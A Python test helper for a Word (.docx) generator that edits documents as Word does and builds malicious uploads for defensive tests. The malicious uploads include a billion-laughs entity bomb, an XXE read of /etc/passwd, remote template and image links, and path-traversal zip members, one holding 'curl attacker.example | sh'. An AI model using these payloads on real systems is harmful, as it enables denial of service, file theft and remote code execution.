"""Edit a rendered Word record the way a user does in Word, for round-trip tests."""
from __future__ import annotations

import io
import zipfile

from docx import Document
from docx.document import Document as WordDocument
from docx.oxml.ns import qn
from docx.table import Table, _Cell
from lxml import etree


def open_docx(data: bytes) -> WordDocument:
    return Document(io.BytesIO(data))


def save(document: WordDocument) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def cell_of(document: WordDocument, bookmark: str) -> _Cell:
    for start in document.element.body.iter(qn("w:bookmarkStart")):
        if start.get(qn("w:name")) == bookmark:
            tc = next(start.iterancestors(qn("w:tc")))
            return _Cell(tc, document._body)
    raise AssertionError(f"no bookmark {bookmark}")


def table_of(document: WordDocument, bookmark: str) -> Table:
    tbl = next(cell_of(document, bookmark)._tc.iterancestors(qn("w:tbl")))
    return Table(tbl, document._body)


def retype(cell: _Cell, *lines: str) -> None:
    """Select the cell's text and type over it, as Word does: the spanning bookmark stays
    around the new text; each typed Enter starts a paragraph."""
    first = cell.paragraphs[0]
    runs = first._p.findall(qn("w:r"))
    for run in runs[1:]:
        first._p.remove(run)
    for extra in cell.paragraphs[1:]:
        extra._p.getparent().remove(extra._p)
    if not runs:
        runs = [first.add_run()._r]
    for child in [c for c in runs[0] if c.tag != qn("w:rPr")]:  # text, line breaks and tabs alike
        runs[0].remove(child)
    etree.SubElement(runs[0], qn("w:t")).text = lines[0]
    for line in lines[1:]:
        cell.add_paragraph(line)


def row_of(cell: _Cell) -> etree._Element:
    return cell._tc.getparent()


def rezip(data: bytes, *, drop: tuple[str, ...] = (), add: dict[str, bytes] | None = None,
          replace: dict[str, bytes] | None = None) -> bytes:
    """The package with members dropped, added or replaced, everything else as it was."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename not in drop:
                target.writestr(info.filename, (replace or {}).get(info.filename, source.read(info.filename)))
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return out.getvalue()


HOSTILE_CASES = ("billion laughs", "XXE reading a local file", "external DTD in a part docgen does not read",
                 "member above the package", "absolute member", "remote template", "remote image", "damaged XML")
PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BILLION_LAUGHS = b'<!DOCTYPE w:document [<!ENTITY lol "lol">' + b"".join(
    b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10) for n in range(1, 10)) + b"]>"


def _with_doctype(xml: bytes, doctype: bytes, reference: bytes = b"") -> bytes:
    """The part with a DOCTYPE after its XML declaration and an entity used in its first text."""
    end = xml.index(b"?>") + 2 if xml.startswith(b"<?xml") else 0
    xml = xml[:end] + doctype + xml[end:]
    return xml.replace(b"<w:t>", b"<w:t>" + reference, 1) if reference else xml


def _external(part: bytes, kind: str, target: str) -> bytes:
    """A relationships part with one more relationship, of type ``kind``, to an outside address."""
    rels = etree.fromstring(part)
    etree.SubElement(rels, f"{{{PKG_RELS}}}Relationship", Id="rIdOutside", Type=f"{OFFICE_RELS}/{kind}",
                     Target=target, TargetMode="External")
    return etree.tostring(rels, xml_declaration=True, encoding="UTF-8", standalone=True)


def hostile_uploads(good: bytes) -> dict[str, tuple[bytes, str]]:
    """A downloaded record turned into each attack on the upload: case -> (file, the part it names)."""
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    settings_rels = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="' + PKG_RELS.encode() + b'"/>')
    return {
        "billion laughs": (rezip(good, replace={"word/document.xml": _with_doctype(
            parts["word/document.xml"], BILLION_LAUGHS, b"&lol9;")}), "word/document.xml"),
        "XXE reading a local file": (rezip(good, replace={"docProps/custom.xml": _with_doctype(
            parts["docProps/custom.xml"], b'<!DOCTYPE Properties [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
            .replace(b"<vt:lpwstr>R-", b"<vt:lpwstr>&xxe;R-", 1)}), "docProps/custom.xml"),
        "external DTD in a part docgen does not read": (rezip(good, replace={"word/styles.xml": _with_doctype(
            parts["word/styles.xml"], b'<!DOCTYPE w:styles SYSTEM "http://attacker.example/styles.dtd">')}),
            "word/styles.xml"),
        "member above the package": (rezip(good, add={"../../.bashrc": b"curl attacker.example | sh\n"}),
                                     "../../.bashrc"),
        "absolute member": (rezip(good, add={"/etc/cron.d/docgen": b"* * * * * root true\n"}), "/etc/cron.d/docgen"),
        "remote template": (rezip(good, add={"word/_rels/settings.xml.rels": _external(
            settings_rels, "attachedTemplate", "http://attacker.example/normal.dotm")}), "word/_rels/settings.xml.rels"),
        "remote image": (rezip(good, replace={"word/_rels/document.xml.rels": _external(
            parts["word/_rels/document.xml.rels"], "image", "http://attacker.example/pixel.png")}),
            "word/_rels/document.xml.rels"),
        "damaged XML": (rezip(good, replace={"word/styles.xml": parts["word/styles.xml"][:-40]}), "word/styles.xml"),
    }


def with_hyperlink(good: bytes, address: str) -> bytes:
    """The record with a link to an outside address, stored as Word stores a typed hyperlink."""
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        rels = archive.read("word/_rels/document.xml.rels")
    return rezip(good, replace={"word/_rels/document.xml.rels": _external(rels, "hyperlink", address)})
